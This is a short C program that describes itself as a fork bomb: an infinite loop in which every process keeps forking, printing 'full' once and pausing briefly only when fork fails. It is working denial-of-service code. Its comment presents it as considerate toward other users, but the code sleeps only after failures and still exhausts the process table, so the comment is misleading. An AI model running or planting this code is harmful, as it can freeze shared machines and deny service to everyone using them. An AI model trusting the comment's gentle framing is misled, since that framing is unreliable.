/* A fork bomb: every process makes others for as long as it may. The first says so once when it
   is full; all sleep between attempts, as the machine belongs to others, too. */

#include <stdlib.h>
#include <unistd.h>

int main(void)
{
    int told = 0;
    for (;;) {
        pid_t pid = fork();
        if (pid < 0) {
            if (!told && write(1, "full\n", 5) != 5)
                return 1;
            told = 1;
            usleep(100 * 1000);
        } else if (pid == 0) {
            told = 1;
        }
    }
}
